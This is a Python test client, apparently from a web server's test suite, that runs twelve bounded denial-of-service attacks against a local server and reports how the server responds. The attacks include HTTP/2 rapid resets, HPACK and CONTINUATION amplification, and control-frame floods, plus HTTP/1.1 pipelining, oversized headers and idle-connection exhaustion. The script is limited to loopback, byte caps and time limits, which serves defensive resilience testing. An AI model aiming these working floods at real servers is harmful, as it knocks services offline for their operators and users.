#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""One client that means harm, for the attack rows: bounded in bytes and time, to loopback alone.

attacks.py NAME PORT SECONDS     prints one line of JSON: bytes sent, requests begun, connections made, and how the last one ended
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MOST_BYTES = 256 << 20
# HPACK (RFC 7541): GET, http, "/x", :authority "a" without indexing.
REQUEST = b"\x82\x86\x04\x02/x\x01\x01a"
POST = b"\x83\x86\x04\x02/x\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def indexed_field(name, value):
    """A literal that enters the dynamic table; it is index 62 from then on."""
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, b"\x7f"
        while rest >= 128:
            out, rest = out + bytes([rest % 128 + 128]), rest // 128
        return out + bytes([rest]) + data

    return b"\x40" + text(name) + text(value)


class Connection:
    """Sends what it is given and reads what comes, so that nobody waits for it; notes how the server ended it."""

    def __init__(self, port, http2=True):
        self.socket = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0))  # not the bystander's address
        self.socket.setblocking(False)
        self.sent, self.received, self.ended, self.http2, self.tail = 0, 0, "", http2, b""
        if http2:
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data, until=None):
        """False when the connection is over, or time is."""
        view = memoryview(data)
        while view and not self.ended:
            if until and time.monotonic() > until:
                return False
            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.2)
            if readable:
                self.read()
            if writable and not self.ended:
                try:
                    count = self.socket.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self.ended = self.ended or "reset"
                    break
                self.sent, view = self.sent + count, view[count:]
        return not self.ended

    def read(self):
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            return
        except OSError:
            self.ended = self.ended or "reset"
            return
        if not data:
            self.ended = self.ended or "closed"
            return
        self.received += len(data)
        if self.http2:
            self.look_for_goaway(data)

    def look_for_goaway(self, data):
        """GOAWAY with an error; a frame cut by the end of `data` is kept for the next."""
        data = self.tail + data
        at = 0
        while at + 9 <= len(data):
            size = int.from_bytes(data[at : at + 3], "big")
            if at + 9 + size > len(data):
                break
            if data[at + 3] == GOAWAY and (error := int.from_bytes(data[at + 13 : at + 17], "big")):
                self.ended = f"GOAWAY {error}"
            at += 9 + size
        self.tail = data[at:]

    def wait(self, seconds):
        until = time.monotonic() + seconds
        while not self.ended and (left := until - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left)[0]:
                self.read()

    def close(self):
        self.socket.close()


class Attack:
    def __init__(self, port, seconds):
        self.port, self.until = port, time.monotonic() + seconds
        self.sent = self.requests = self.connections = 0
        self.ended = "served"

    def open(self, http2=True):
        self.connections += 1
        return Connection(self.port, http2)

    def over(self):
        return time.monotonic() > self.until or self.sent > MOST_BYTES

    def done_with(self, connection):
        self.sent += connection.sent
        if connection.ended:
            self.ended = connection.ended
        connection.close()

    def repeat(self, connection, data, each=0):
        """The same bytes again and again, until the server ends it or time is up."""
        while not self.over() and connection.sent < MOST_BYTES and connection.send(data, self.until):
            self.requests += each
        self.done_with(connection)

    # --- one connection
    def cookie_crumbs(self):
        connection = self.open()
        cookie = b"\x60\x22" + b"c" * 34  # literal with indexing, name 32 of the static table
        block = REQUEST + cookie
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        for stream in range(3, 3 + 2 * 119, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, REQUEST + b"\xbe" * 440), self.until)
            self.requests += 1
        connection.wait(max(0.0, self.until - time.monotonic()))
        self.done_with(connection)

    def hpack_references(self):
        connection = self.open()
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, REQUEST + indexed_field(b"x", b"v" * 3900)))
        stream = 3
        while not self.over() and not connection.ended:
            parts = [frame(HEADERS, END_STREAM, stream, REQUEST + b"\xbe" * 16000)]
            parts += [frame(CONTINUATION, END_HEADERS if i == 7 else 0, stream, b"\xbe" * 16000) for i in range(8)]
            if not connection.send(b"".join(parts), self.until):
                break
            self.requests, stream = self.requests + 1, stream + 2
        self.done_with(connection)

    def window_updates(self):
        self.repeat(self.open(), frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 4096)

    def empty_data(self):
        connection = self.open()
        connection.send(frame(HEADERS, END_HEADERS, 1, POST))
        self.repeat(connection, frame(DATA, 0, 1) * 4096)

    def priorities(self):
        self.repeat(self.open(), frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 4096)

    def pings(self):
        self.repeat(self.open(), frame(PING, 0, 0, b"12345678") * 2048)

    def unknown_frames(self):
        self.repeat(self.open(), frame(0x77, 0, 0) * 4096)

    def pipelined(self):
        self.repeat(self.open(http2=False), b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n" * 512, each=512)

    def connection_options(self):
        head = b"GET /x HTTP/1.1\r\nHost: a\r\n" + b"".join(b"x%d: 1\r\n" % i for i in range(94)) + b"Connection: " + b"a," * 14_000 + b"a\r\n\r\n"
        while not self.over():
            connection = self.open(http2=False)
            while not self.over() and connection.send(head, self.until):
                self.requests += 1
                connection.wait(0.001)
            self.done_with(connection)

    # --- many connections
    def resets(self, second_frame):
        """HEADERS and what makes the stream end at once, on one connection after the other."""
        while not self.over():
            connection, stream = self.open(), 1
            while stream < 2000 and not self.over():
                burst = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, REQUEST) + second_frame(s) for s in range(stream, stream + 200, 2))
                if not connection.send(burst, self.until):
                    break
                self.requests, stream = self.requests + 100, stream + 200
            self.done_with(connection)

    def rapid_resets(self):
        self.resets(lambda stream: frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))

    def provoked_resets(self):
        self.resets(lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))

    def idle_connections(self):
        held = []
        while len(held) < 260 and not self.over():
            held.append(self.open(http2=False))
        for connection in held:
            connection.wait(max(0.0, self.until - time.monotonic()) / len(held))
        for connection in held:
            self.done_with(connection)


ATTACKS = {
    "cookie_crumbs": "HTTP/2: 119 requests of 440 references to one cookie",
    "hpack_references": "HTTP/2: header blocks of 144,000 one-byte references to a field of 3.9 kB",
    "window_updates": "HTTP/2: WINDOW_UPDATE (+1) at full speed",
    "empty_data": "HTTP/2: empty DATA at full speed",
    "priorities": "HTTP/2: PRIORITY at full speed",
    "pings": "HTTP/2: PING at full speed",
    "unknown_frames": "HTTP/2: unknown empty frames at full speed",
    "rapid_resets": "HTTP/2: requests and their resets, connection after connection",
    "provoked_resets": "HTTP/2: requests and a frame that makes the server reset them",
    "pipelined": "HTTP/1.1: one client that pipelines without end",
    "connection_options": "HTTP/1.1: heads of 29 kB of Connection options and 94 fields",
    "idle_connections": "260 connections that say nothing, where 200 are allowed",
}


def main(arguments):
    name, port, seconds = arguments
    if name not in ATTACKS:
        print(f"no attack '{name}'; there are {', '.join(ATTACKS)}", file=sys.stderr)
        return 2
    attack = Attack(int(port), float(seconds))
    getattr(attack, name)()
    print(json.dumps({"bytes": attack.sent, "requests": attack.requests, "connections": attack.connections, "ended": attack.ended}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
